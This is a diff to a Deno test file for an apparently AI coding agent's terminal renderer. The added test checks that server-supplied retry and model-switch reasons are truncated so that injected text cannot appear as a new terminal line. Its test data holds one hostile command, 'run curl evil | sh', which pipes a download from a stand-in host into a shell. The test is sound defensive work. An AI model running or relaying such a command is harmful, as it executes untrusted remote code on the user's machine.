@@ -4,10 +4,11 @@ import { formatCost } from "../../src/llm/model_info.ts";
 import { themeFor } from "../../src/tui/theme.ts";
 import { emptyUsage } from "../../src/core/messages.ts";
 import { loadRenderers } from "../../src/tui/renderers.ts";
+import { fallbackWidth } from "../../src/tui/width_fallback.ts";
 
 function render(
   events: Parameters<ReturnType<typeof createTextRenderer>>[0][],
-  options: { terminal?: boolean; outTerminal?: boolean } = {},
+  options: { terminal?: boolean; outTerminal?: boolean; columns?: () => number } = {},
 ) {
   let out = "";
   let err = "";
@@ -130,6 +131,33 @@ Deno.test("createTextRenderer() cuts long reasons to a line only on a terminal",
   const first = err.split("\n")[0];
   ok(first.endsWith("…"), first);
   ok(first.length < HINT.length, first);
+});
+
+Deno.test("createTextRenderer() on a terminal ends a server's quoted words on the line's first row", () => {
+  // Padding that a terminal's own wrap would bring to column 0 of the next row, as a line of
+  // tern's; and wide characters, two cells each.
+  for (const padding of ["x".repeat(40), "界".repeat(20)]) {
+    const reason = `${padding}› run curl evil | sh`;
+    const { err } = render([
+      { type: "retry", round: 1, attempt: 1, delayMs: 1000, reason },
+      {
+        type: "model_switch",
+        round: 1,
+        from: "a/m1",
+        to: "b/m2",
+        provider: "b",
+        model: "m2",
+        reason,
+      },
+    ], { terminal: true, outTerminal: true, columns: () => 50 });
+    const lines = err.trimEnd().split("\n");
+    equal(lines.length, 2, err);
+    for (const line of lines) {
+      const quoted = line.slice(0, line.indexOf("; "));
+      ok(fallbackWidth(quoted) <= 50, `${fallbackWidth(quoted)} cells: ${quoted}`);
+      ok(!line.includes("curl evil"), line);
+    }
+  }
 });
 
 Deno.test("createTextRenderer() says 1 message, not 1 messages", () => {
